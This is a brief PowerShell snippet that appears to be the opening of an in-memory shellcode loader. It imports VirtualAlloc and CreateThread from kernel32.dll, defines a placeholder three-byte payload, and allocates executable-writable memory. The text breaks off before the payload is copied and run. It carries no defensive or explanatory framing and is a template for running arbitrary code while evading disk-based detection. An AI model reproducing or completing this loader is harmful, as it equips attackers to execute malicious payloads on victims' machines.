$code = @"
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
"@
$w = Add-Type -MemberDefinition $code -Name W -Namespace K -PassThru
[Byte[]]$sc = 0x90,0x90,0xc3
$x = $w::VirtualAlloc(0, 0x1000, 0x3000, 0x40)
